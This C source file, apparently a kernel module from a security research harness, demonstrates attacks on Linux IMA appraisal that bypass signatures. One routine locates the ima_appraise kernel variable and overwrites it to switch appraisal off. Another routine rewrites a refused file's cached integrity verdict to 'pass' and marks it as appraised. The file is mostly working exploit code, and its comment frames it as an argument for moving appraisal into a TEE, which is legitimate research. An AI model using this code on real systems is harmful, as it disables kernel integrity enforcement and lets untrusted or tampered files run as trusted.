// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks past the signature: no key is touched, but the switch that turns
 * appraisal on, or the verdict that was kept for a file. Both are data of the
 * kernel until the whole appraisal has moved to the TEE.
 */
#include <linux/fs.h>
#include <linux/namei.h>

#include "attack.h"
#undef pr_fmt
#include "ima.h"

static int *appraise;
static int saved_appraise;

int attack_appraise(const struct target *t)
{
	int off = 0;

	appraise = find_symbol("ima_appraise");
	if (!appraise)
		return -ENOENT;
	saved_appraise = *appraise;
	return poke(appraise, &off, sizeof(off));
}

void undo_appraise(void)
{
	if (appraise)
		poke(appraise, &saved_appraise, sizeof(saved_appraise));
}

static struct ima_iint_cache *find_verdict(struct inode *inode)
{
	const struct lsm_blob_sizes *sizes = find_symbol("ima_blob_sizes");

	if (!sizes || !inode->i_security)
		return NULL;
	return *(struct ima_iint_cache **)(inode->i_security +
					   sizes->lbs_inode);
}

/* The file must have been refused once, so that there is a verdict. */
int attack_verdict(const struct target *t)
{
	struct ima_iint_cache *iint;
	struct path path;
	int rc;

	if (!t->file)
		return -EINVAL;
	rc = kern_path(t->file, LOOKUP_FOLLOW, &path);
	if (rc)
		return rc;
	iint = find_verdict(d_backing_inode(path.dentry));
	if (iint) {
		iint->ima_file_status = INTEGRITY_PASS;
		iint->ima_bprm_status = INTEGRITY_PASS;
		iint->flags |= IMA_APPRAISED | IMA_FILE_APPRAISED |
			       IMA_BPRM_APPRAISED;
	}
	path_put(&path);
	return iint ? 0 : -ENOENT;
}
